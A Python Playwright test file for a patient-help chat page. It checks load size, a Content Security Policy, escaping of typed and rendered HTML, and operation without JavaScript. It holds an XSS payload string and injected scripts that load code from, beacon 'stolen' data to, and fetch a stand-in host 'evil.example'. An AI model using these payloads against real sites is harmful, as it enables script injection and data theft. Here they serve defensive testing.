"""What the page loads, what it refuses to run, and that it works before its script does."""

from __future__ import annotations

import dataclasses
import gzip
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Response

from bot.channels.web.transcript import Message
from bot.channels.web.views import render
from bot.keys import Key
from tests.browser.chat_page import Chat, worded
from tests.browser.conftest import NewChat

MAX_WEIGHT = 50_000
"""Bytes of everything that the page loads, compressed."""

ATTACK = '<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>'

NOTE = """
  window.refused = [];
  document.addEventListener('securitypolicyviolation',
      (event) => window.refused.push(event.effectiveDirective));
"""


@pytest.mark.parametrize("path", ["/", "/webhooks/web/embed", "/demo"])
def test_everything_the_page_loads_is_small_and_ours(new_chat: NewChat, path: str) -> None:
    responses: list[Response] = []

    def watch(page: Page) -> None:
        # Playwright cannot take a built-in method as a handler.
        page.on("response", lambda response: responses.append(response))

    chat = new_chat(path, watch)
    if path == "/demo":
        chat.page.locator(".launch").click()
        chat.page.frame_locator("iframe").locator("#send").wait_for()
    else:
        chat.say("MyChart")
    chat.page.wait_for_load_state("networkidle")
    assert {urlsplit(r.url).netloc for r in responses} == {urlsplit(chat.url).netloc}
    loaded = [r for r in responses if r.request.method == "GET"]
    weights = {urlsplit(r.url).path: len(gzip.compress(r.body())) for r in loaded if r.ok}
    print(path, sum(weights.values()), weights)
    assert sum(weights.values()) <= MAX_WEIGHT
    sent = sum(r.request.sizes()["responseBodySize"] for r in loaded if r.ok)
    assert sent <= MAX_WEIGHT, "scripts and style sheets travel compressed"
    assert [r.url for r in loaded if not r.ok] == []


def test_the_policy_stops_an_injected_script_style_and_request(new_chat: NewChat) -> None:
    chat = new_chat(prepare=lambda page: page.add_init_script(NOTE))
    assert chat.page.evaluate("() => window.refused") == [], "the page keeps its own policy"
    chat.page.evaluate("""() => {
        const script = document.createElement('script');
        script.textContent = 'window.hacked = 1';
        document.body.append(script);
        const far = document.createElement('script');
        far.src = 'https://evil.example/x.js';
        document.body.append(far);
        const image = new Image();
        image.src = 'https://evil.example/?stolen';
        document.body.setAttribute('onclick', 'window.hacked = 1');
        document.body.click();
        document.body.setAttribute('style', 'color: red');
        fetch('https://evil.example/').catch(() => 0);
    }""")
    chat.page.wait_for_timeout(300)
    assert chat.page.evaluate("() => window.hacked") is None
    refused = set(chat.page.evaluate("() => window.refused"))
    expected = {"script-src-elem", "script-src-attr", "img-src", "style-src-attr", "connect-src"}
    assert expected <= refused


def test_html_that_somebody_types_is_text(chat: Chat) -> None:
    chat.page.context.set_offline(True)
    chat.type(ATTACK)
    chat.page.wait_for_selector("#outbox .unsent")
    assert chat.unsent == [ATTACK]
    chat.page.context.set_offline(False)
    chat.wait(0)
    assert chat.asked == [ATTACK]
    chat.page.reload()
    assert chat.asked == [ATTACK]
    assert chat.page.evaluate("() => window.hacked") is None
    assert not chat.page.locator("main img, main script").count()


def test_html_that_stands_in_content_is_text(new_chat: NewChat) -> None:
    plan = {
        "steps": [{"id": "x", "text": ATTACK}],
        "forms": [{"id": "x", "name": ATTACK}],
        "contacts": [
            {"id": "him", "name": ATTACK, "phone": ATTACK, "hours": ATTACK, "url": ATTACK}
        ],
        **{part: [] for part in ("documents", "timing", "cost", "notes")},
    }
    parts = tuple(
        {"kind": kind, "text": ATTACK, "language": "en"}
        for kind in ("notice", "first", "plan", "relay", "source", "last")
    )
    message = Message("assistant", ATTACK, "en", "ltr", 1, plan=plan, parts=parts)
    plain = dataclasses.replace(message, number=2, plan=None, parts=())
    html = render(
        "page.html", "en", None, framed=False, messages=(message, plain), after=0, latest=None,
        choices=(("id", ATTACK),), notice=ATTACK, problem=ATTACK, text=ATTACK, token="t", key="k",
    )  # fmt: skip
    chat = new_chat("/health")
    chat.page.route("**/made-up", lambda route: route.fulfill(body=html, content_type="text/html"))
    chat.open("/made-up")
    chat.page.locator("#transcript").wait_for()
    assert chat.page.evaluate("() => window.hacked") is None
    assert not chat.page.locator("img, main script").count()
    assert chat.page.locator("#transcript").inner_text().count(ATTACK) >= 9


def test_a_question_is_asked_before_the_script_has_loaded(new_chat: NewChat) -> None:
    chat = new_chat("/health")
    chat.page.route("**/chat.js", lambda route: None)
    chat.page.goto(chat.url, wait_until="commit")
    chat.page.fill("#text", "How do I get my mammograms?")
    chat.page.click("#send", no_wait_after=True)
    chat.page.locator("#transcript a[href='tel:+16174144884']").first.wait_for()
    assert not chat.page.evaluate("() => document.documentElement.classList.contains('scripted')")


def test_without_script_everything_works(new_chat: NewChat) -> None:
    chat = new_chat(java_script_enabled=False)
    page = chat.page
    page.click(".languages button:text-is('Español')")
    assert page.get_attribute("html", "lang") == "es"
    page.fill("#text", "MyChart")
    page.click("#send")
    assert page.locator(".card ol > li").count() == 6
    assert not page.locator("[data-copy]").is_visible(), "what needs script is not offered"
    title = page.locator("#choices button").first.inner_text()
    page.locator("#choices button").first.click()
    assert page.locator("#transcript > .from-person .text").last.inner_text().strip() == title
    page.click("#send")
    assert page.inner_text("#problem") == worded(Key.SYSTEM_EMPTY, "es")
    page.click("#delete")
    assert page.inner_text(".notice") == worded(Key.PAGE_DELETED, "es")
    assert not page.locator("#transcript > li").count()
    page.fill("#text", "MyChart")
    page.click("#send")
    page.click("#start-over")
    assert page.inner_text(".notice") == worded(Key.REQUEST_STARTED_OVER, "es")
